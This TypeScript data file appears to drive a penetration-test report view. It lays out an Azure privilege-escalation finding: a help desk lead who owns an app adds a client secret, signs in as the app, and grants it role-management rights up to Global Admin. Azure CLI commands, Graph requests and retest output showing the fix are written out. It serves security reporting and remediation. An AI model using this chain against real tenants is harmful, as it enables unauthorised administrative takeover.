import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const azurePath: AttackPath = {
  id: `${findingPrefix}-2026-115`,
  title: 'The help desk can take over the tenant',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:H/UI:N/VC:H/VI:H/VA:H/SC:H/SI:H/SA:H',
  reported: '2026-09-08',
  retested: '2026-09-15',
  answers: ['secret added', '403'],
  cut: 2,
  sides: [
    { label: 'MFA prompt: refused', from: 1, at: 2.2, lane: 2 },
    { label: 'PIM: approval', from: 3, at: 3.9, lane: 2 },
  ],
  hops: [
    {
      label: 'help desk lead',
      glyph: 'person',
      lane: 2,
      name: 'Look up who owns an app',
      lines: [
        '$ az ad app owner list --id 3f2a[...] \\',
        '    --query "[].userPrincipalName" -o tsv',
        '{!helpdesk.lead@kestrel.example!}',
      ],
    },
    {
      label: 'app “inventory”',
      glyph: 'key',
      lane: 0,
      name: 'Add a secret as its owner',
      lines: [
        '$ az ad app credential reset --id {-3f2a[...]-} --append {#1}',
        '{ "appId": "3f2a[...]",',
        '  "password": {!"[redacted]"!} }',
      ],
      notes: ['owners can do this; everyone forgot she was one'],
      after: [
        '$ az ad app credential reset --id {-3f2a[...]-} --append',
        '{+Authorization_RequestDenied+}: Insufficient privileges',
      ],
    },
    {
      label: 'Graph app role',
      glyph: 'gear',
      lane: 0,
      name: 'Sign in as the app',
      lines: [
        'GET /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
        '',
        'HTTP/2 200',
        '"appRoleId": {!"06b708a9-e830-4db3-a914-8e69da51d44f"!}',
        '# AppRoleAssignment.ReadWrite.All',
      ],
      after: [
        'GET /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
        '',
        'HTTP/2 200',
        '"value": {+[]+}',
      ],
    },
    {
      label: 'Global Admin',
      glyph: 'crown',
      lane: 1,
      name: 'Grant the app everything else',
      lines: [
        'POST /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
        '{ "appRoleId": {-"9e3f62cf-[RoleManagement.ReadWrite]"-} }',
        '',
        'HTTP/2 {!201!}',
      ],
      after: [
        'POST /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
        '{ "appRoleId": {-"9e3f62cf-[RoleManagement.ReadWrite]"-} }',
        '',
        '{+HTTP/2 403+}',
      ],
    },
  ],
};
